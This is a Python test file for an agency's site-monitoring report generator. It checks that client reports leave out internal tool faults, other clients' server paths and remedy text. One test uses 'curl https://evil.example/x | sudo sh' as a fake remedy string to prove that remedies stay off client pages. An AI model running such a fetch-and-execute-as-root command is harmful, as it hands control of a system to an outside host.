"""What a client is told: nothing of the agency's tools, nothing of other clients, and no better than it is."""

from dataclasses import replace

import pytest

from checks import State
from reports.audience import OURS
from reports.html import html_report
from reports.model import NotRun, ReportedFinding, Round
from tests.reports.page import Page, rows_in
from tests.reports.rounds import INVENTORY, TITLES, finding, incident, round_of

OURS_REASON = "zen.example cannot be believed: it refused to answer"


def unusable(check: str = "users") -> ReportedFinding:
    data = {"list": "zen.example", "reason": OURS_REASON, "cause": "refused", "audience": "agency"}
    return finding(
        State.UNKNOWN, check, "shop", item="zen.example", kind="list-unusable", summary=OURS_REASON, data=data,
        remedy="give siterounds a resolver of its own",
    )  # fmt: skip


def seen(partly: bool) -> Round:
    rest = (finding(State.OK, "disk"), finding(State.OK, "versions", "shop"))
    ours = (*([finding(State.OK, "users", "shop")] if partly else []), unusable())
    missed = NotRun(
        "web1", "shop", "users", OURS_REASON, "give siterounds a resolver of its own", partly, internal=True
    )
    return round_of((*rest, *ours), (missed,)).narrowed({"web1"}, {"shop"})


def text(shown: Round, client: str | None = "harbour") -> str:
    return Page(html_report(shown, INVENTORY, TITLES, client)).text


def test_the_agency_reads_what_ails_its_tools() -> None:
    said = text(seen(partly=True), None)
    assert "The block list zen.example cannot be used" in said
    assert "resolver of its own" in said
    assert "not everything could be checked" in said


@pytest.mark.parametrize("partly", [True, False])
def test_a_client_does_not(partly: bool) -> None:
    said = text(seen(partly))
    for secret in ("zen.example", "resolver", "refused to answer"):
        assert secret not in said
    assert ("Could not be checked" in said) is not partly
    assert OURS in said


def test_the_flag_decides_and_no_sentence() -> None:
    shown = seen(partly=False)
    same_words = replace(shown.coverage.not_run[0], internal=False)
    said = text(replace(shown, coverage=replace(shown.coverage, not_run=(same_words,))))
    assert OURS not in said
    other_words = replace(shown.coverage.not_run[0], reason="nothing that a finding says")
    assert OURS in text(replace(shown, coverage=replace(shown.coverage, not_run=(other_words,))))


def test_a_client_is_told_how_much_was_looked_at() -> None:
    partly = text(seen(partly=True))
    assert "Everything we checked is in order." in partly
    assert "3 of 3 checks ran. One of them could see a part only." in partly
    wholly = text(seen(partly=False))
    assert "What we could check is in order, but not everything could be checked." in wholly
    assert "2 of 3 checks ran." in wholly


def test_the_row_of_a_check_that_ran_in_part_for_our_own_fault_keeps_its_state() -> None:
    html = html_report(seen(partly=True), INVENTORY, TITLES, "harbour")
    rows = dict(rows_in(html))
    assert rows["Inactive users"] == "ok"
    html = html_report(seen(partly=False), INVENTORY, TITLES, "harbour")
    rows = dict(rows_in(html))
    assert rows["Inactive users"] == "unknown"


def test_incidents_of_our_tools_are_no_change_to_a_client() -> None:
    ours = replace(incident(1, State.UNKNOWN, change="opened"), check="users", item="zen.example")
    theirs = incident(2, change="resolved", summary="Akismet 5.6 is behind 5.7")
    shown = replace(seen(partly=True), incidents=(ours, theirs))
    assert "New problems" not in text(shown)
    assert "Solved: 1" in text(shown)
    assert "New problems: 1" in text(shown, None)


def test_a_shared_server_names_no_folder_of_another_client() -> None:
    full = finding(
        State.CRITICAL,
        "disk",
        item="/",
        kind="disk-space",
        summary="/ is 96 % full; most in /srv/blog/uploads",
        details=("12 GiB /srv/blog/uploads",),
        remedy="look into /srv/blog",
        data={"mount": "/", "size": 2**34, "available": 2**28, "used_percent": 96.0, "growers": ["/srv/blog"]},
    )
    over = replace(incident(4, change="resolved", summary=full.finding.summary), site=None, client=None, check="disk")
    over = replace(over, clients=("harbour", "quay"), item="/data")
    shown = replace(round_of((full,)), incidents=(over,)).narrowed({"web1"}, {"shop"})
    said = text(shown)
    assert "No longer so: a problem of the server" in said
    assert "/ is 96% full: 256 MiB are left" in said
    assert "blog" not in said
    assert "/srv/blog/uploads" in text(shown, None)


@pytest.mark.parametrize("kind", ["third-party", "not-checked", "version-outdated"])
def test_no_remedy_reaches_a_client(kind: str) -> None:
    command = "curl https://evil.example/x | sudo sh"
    found = finding(State.CRITICAL, "versions", "shop", kind=kind, summary="it is old", remedy=command)
    missed = NotRun("web1", "shop", "users", "it did not answer", command, True)
    shown = round_of((found,), (missed,)).narrowed({"web1"}, {"shop"})
    assert "curl" not in html_report(shown, INVENTORY, TITLES, "harbour")
    assert "curl" in html_report(shown, INVENTORY, TITLES, None), "an engineer reads it"
